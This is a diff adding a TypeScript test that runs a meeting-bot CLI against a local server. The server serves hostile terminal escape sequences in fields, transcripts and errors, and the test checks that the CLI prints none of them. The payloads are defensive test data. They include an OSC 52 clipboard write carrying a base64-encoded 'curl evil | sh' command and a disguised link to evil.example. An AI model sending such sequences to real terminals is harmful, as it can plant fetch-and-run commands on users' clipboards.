@@ -1,0 +1,88 @@
+/**
+ * The CLI run against an API (a real HTTP server on 127.0.0.1) whose answers carry
+ * participants' hostile text, as an older stack or a compromised endpoint would
+ * serve it: what reaches the terminal (tables, fields, text, errors) acts on
+ * nothing, and `--json` parses back to the exact text.
+ */
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { main } from '../../cli/main';
+import { controlsIn } from '../fixtures/control-characters';
+
+const ESCAPES = '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u009b2J\u202e';
+const BOT = `bot_${ESCAPES}1`;
+const meeting = {
+  bot_id: BOT,
+  state: `ended${ESCAPES}`,
+  state_at: '2026-11-20T12:00:00Z',
+  summary: `Minutes\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\`,
+  utterance_count: 1,
+  participant_count: 1,
+  schedule_id: null,
+  meeting_url: null,
+  scheduled_join_at: null,
+  archived_at: null,
+  recording: null,
+};
+
+const server = createServer((request, response) => {
+  const path = new URL(request.url ?? '/', 'http://127.0.0.1').pathname;
+  const json = (status: number, body: unknown) =>
+    response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));
+  if (path === '/meetings') return json(200, { meetings: [meeting], next_cursor: null });
+  if (path.endsWith('/transcript'))
+    return response.writeHead(200, { 'content-type': 'text/plain' }).end(`[00:00:01] Mallory${ESCAPES}: hi\r\n`);
+  if (path.startsWith('/meetings/missing')) return json(404, { error: `No meeting ${ESCAPES}` });
+  return json(200, meeting);
+});
+let endpoint: string;
+
+beforeAll(async () => {
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  endpoint = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+});
+afterAll(async () => {
+  server.closeAllConnections();
+  await new Promise((resolve) => server.close(resolve));
+});
+
+/** Runs the CLI, returning what it wrote to stdout and stderr. */
+async function run(...argv: string[]): Promise<{ out: string; err: string }> {
+  const written = { out: '', err: '' };
+  const out = vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => {
+    written.out += String(chunk);
+    return true;
+  });
+  const err = vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => {
+    written.err += String(chunk);
+    return true;
+  });
+  try {
+    await main([...argv, '--endpoint', endpoint]);
+  } finally {
+    out.mockRestore();
+    err.mockRestore();
+  }
+  return written;
+}
+
+describe('CLI output of hostile text', () => {
+  it.each([
+    ['meetings list', ['meetings', 'list']],
+    ['meetings show', ['meetings', 'show', 'bot_1']],
+    ['transcript', ['transcript', 'bot_1']],
+    ['an error', ['meetings', 'show', 'missing']],
+  ])('%s writes no control character to the terminal', async (_what, argv) => {
+    const { out, err } = await run(...argv);
+    expect(`${out}${err}`.length).toBeGreaterThan(0);
+    expect(controlsIn(out)).toEqual([]);
+    expect(controlsIn(err)).toEqual([]);
+  });
+
+  it('--json keeps the exact text, escaped', async () => {
+    const { out } = await run('meetings', 'show', 'bot_1', '--json');
+    expect(controlsIn(out)).toEqual([]);
+    expect(JSON.parse(out)).toEqual(meeting);
+  });
+});
